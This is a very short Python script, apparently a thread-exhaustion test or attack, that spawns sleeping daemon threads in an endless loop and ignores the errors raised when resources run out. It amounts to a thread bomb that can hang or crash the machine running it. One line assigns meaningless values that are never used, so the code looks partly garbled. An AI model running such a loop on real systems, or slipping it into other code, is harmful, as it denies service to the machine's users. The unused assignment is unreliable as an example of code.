"""Starts threads without an end."""

import threading
import time

ON, EARNS, SECONDS, CHANGES = "stubs", 0, 2.0, True

while True:
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        pass
